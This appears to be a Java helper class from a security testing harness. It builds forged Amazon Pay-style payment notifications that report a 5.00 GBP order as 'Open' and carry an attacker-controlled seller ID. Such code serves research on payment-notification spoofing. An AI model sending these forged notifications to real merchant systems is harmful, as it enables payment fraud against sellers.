package dev.ipnledger.runtime.attack;

/** Inner documents, true and false. */
final class Forgery {
  private Forgery() {}

  /** A notification that an order of 5.00 GBP is Open. */
  static String message(String orderReferenceId) {
    return message(orderReferenceId, data(orderReferenceId));
  }

  /** A notification around some {@code NotificationData}. */
  static String message(String orderReferenceId, String data) {
    return """
        {"NotificationReferenceId": "%s", "NotificationType": "OrderReferenceNotification",
         "SellerId": "%s", "ReleaseEnvironment": "Live", "Version": "2013-01-01",
         "Timestamp": "2015-11-21T03:55:19Z", "NotificationData": "%s"}"""
        .formatted(
            "ref-" + orderReferenceId,
            Attacker.SELLER,
            data.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", ""));
  }

  static String data(String orderReferenceId) {
    return """
        <OrderReferenceNotification><OrderReference>
        <AmazonOrderReferenceId>%s</AmazonOrderReferenceId>
        <OrderTotal><Amount>5.0</Amount><CurrencyCode>GBP</CurrencyCode></OrderTotal>
        <OrderReferenceStatus><State>Open</State>
        <LastUpdateTimestamp>2015-11-21T15:55:18.970Z</LastUpdateTimestamp></OrderReferenceStatus>
        <CreationTimestamp>2015-11-21T15:50:18.970Z</CreationTimestamp>
        </OrderReference></OrderReferenceNotification>"""
        .formatted(orderReferenceId);
  }
}
